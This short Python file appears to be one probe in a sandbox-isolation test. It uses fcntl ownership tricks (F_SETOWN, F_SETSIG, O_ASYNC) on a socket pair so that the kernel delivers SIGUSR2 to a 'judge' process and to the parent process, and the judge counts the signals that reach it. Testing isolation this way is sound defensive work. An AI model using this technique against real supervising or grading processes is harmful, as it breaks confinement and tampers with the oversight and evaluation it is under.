"""Escape: names the judge as owner of a pipe, so that the kernel itself sends it a signal of choice when data comes."""

import contextlib
import fcntl
import os
import signal
import socket
import struct
import time


def attack() -> bool:
    ours, theirs = socket.socketpair()
    for pid in (JUDGE, os.getppid()):
        with contextlib.suppress(OSError):
            fcntl.fcntl(ours, 10, signal.SIGUSR2)  # F_SETSIG
            fcntl.fcntl(ours, 8, pid)  # F_SETOWN
            fcntl.fcntl(ours, 15, struct.pack("ii", 1, pid))  # F_SETOWN_EX
            fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            theirs.send(b"x")
    time.sleep(0.1)
    return False  # the judge counts the signals that reach it
